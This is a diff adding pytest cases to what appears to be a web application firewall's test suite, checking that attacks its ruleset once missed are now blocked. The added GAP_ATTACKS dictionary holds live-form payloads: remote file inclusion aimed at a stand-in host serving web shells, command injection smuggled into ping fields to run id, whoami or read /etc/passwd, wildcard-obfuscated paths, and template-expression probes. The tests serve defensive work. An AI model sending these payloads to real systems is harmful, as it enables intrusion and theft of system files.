@@ -125,3 +125,40 @@ LOOKALIKE_ATTACKS = {
 def test_lookalike_attacks_are_blocked(inspector: Inspector, name: str) -> None:
     verdict = inspector.engine.evaluate(LOOKALIKE_ATTACKS[name], inspector.state)
     assert verdict.decision is Decision.BLOCK, name
+
+
+def raw_query(path: str, raw: str) -> Request:
+    return make_request("GET", f"{path}?{raw}", (), b"")
+
+
+GAP_ATTACKS = {
+    "RFI, scheme percent-encoded": raw_query(
+        "/index.php", "page=http%3A%2F%2Fevil.example%2Fshell.txt%3F"
+    ),
+    "RFI, scheme double-encoded": raw_query(
+        "/index.php", "page=http%253A%252F%252Fevil.example%252Fs.txt%253F"
+    ),
+    "RFI over ftp": raw_query("/index.php", "page=ftp://evil.example/pub/shell.php"),
+    "RFI, protocol-relative with a trailing ?": raw_query(
+        "/index.php", "page=//evil.example/x.php?"
+    ),
+    "RFI, protocol-relative to a text file": raw_query("/index.php", "file=//evil.example/c99.txt"),
+    "RFI with a trailing NUL": raw_query("/index.php", "page=http://evil.example/shell.txt%00"),
+    "RFI with a trailing #": raw_query("/index.php", "page=http://evil.example/shell.php%23"),
+    "command after a newline": raw_query("/ping", "ip=127.0.0.1%0Aid%0A"),
+    "command with a path after a newline": raw_query("/ping", "ip=127.0.0.1%0Acat%20/etc/passwd"),
+    "command in a JSON value": json_post({"ip": "127.0.0.1|id"}, "/api/ping"),
+    "command in a JSON value sent as text": text_post('{"host":"8.8.8.8;cat /etc/passwd"}'),
+    "command in JSON in a parameter": query("/api", q='{"ip":"1.1.1.1&&whoami"}'),
+    "wildcard path": raw_query("/run", "cmd=/???/c?t%20/???/p??s??"),
+    "wildcard path after a separator": raw_query("/ping", "ip=1;/b??/c?t%20/e?c/passwd"),
+    "Thymeleaf selection expression": raw_query("/hello", "name=*%7B7*7%7D"),
+    "OGNL arithmetic": raw_query("/page", "q=%27%2B%7B233*233%7D%2B%27"),
+    "EL with a backslash escape": json_post({"memberNames": ["$\\A{233*233*233}"]}, "/rest"),
+}
+
+
+@pytest.mark.parametrize("name", list(GAP_ATTACKS))
+def test_attacks_the_ruleset_used_to_miss_are_blocked(inspector: Inspector, name: str) -> None:
+    verdict = inspector.engine.evaluate(GAP_ATTACKS[name], inspector.state)
+    assert verdict.decision is Decision.BLOCK, name
